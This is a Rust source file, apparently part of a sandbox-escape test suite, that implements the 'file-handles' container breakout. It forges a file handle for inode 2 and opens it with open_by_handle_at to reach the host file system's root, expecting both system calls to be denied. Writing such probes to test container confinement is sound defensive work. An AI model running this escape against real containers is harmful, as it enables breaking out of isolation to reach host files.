//! A handle names a file by its inode, whatever the path to it: with one of a file system's root, the bind mount of a
//! directory shows everything around it. Many containers were left this way.

use std::os::fd::AsRawFd;

use crate::escape::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    name: "file-handles",
    tries: "the root of the work directory's file system, by its handle",
    wall: "system calls",
    control: Control::Caller,
    record: Record::DeniedEach(&["name_to_handle_at", "open_by_handle_at"]),
    start: Start::Plain,
    attempt,
};

fn attempt(_: &Ground) -> Verdict {
    const HERE: usize = libc::AT_FDCWD as usize;
    /// Bytes, type (inode and generation), inode 2: the root of many file systems.
    const ROOT: [u32; 4] = [8, 1, 2, 0];
    let mut handle = [0_u8; 8 + 128];
    handle[0] = 128;
    let mut mount = 0_i32;
    let named = sys::call(
        libc::SYS_name_to_handle_at,
        &[
            HERE,
            sys::at(c"."),
            sys::at_mut(&mut handle),
            sys::at_mut(&mut mount),
            0,
        ],
    );
    let opened = match std::fs::File::open(".") {
        Ok(directory) => sys::call(
            libc::SYS_open_by_handle_at,
            &[
                directory.as_raw_fd() as usize,
                sys::at(&ROOT),
                libc::O_RDONLY as usize,
            ],
        ),
        Err(cause) => Err(cause),
    };
    Verdict::any([
        ("opened".into(), Verdict::of(opened)),
        ("named".into(), Verdict::of(named)),
    ])
}
